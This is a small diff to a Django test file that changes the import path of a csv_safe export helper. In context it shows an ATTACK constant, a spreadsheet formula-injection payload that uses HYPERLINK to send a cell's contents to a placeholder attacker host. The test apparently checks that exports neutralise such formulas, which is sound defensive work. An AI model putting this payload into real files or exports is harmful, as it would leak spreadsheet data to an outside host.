@@ -11,7 +11,7 @@ from django.utils import translation
 from openpyxl import load_workbook
 
 from elearning.organisations.models import Organisation
-from progress.reports.exports import csv_safe
+from reports.exports import csv_safe
 
 pytestmark = pytest.mark.django_db
 ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
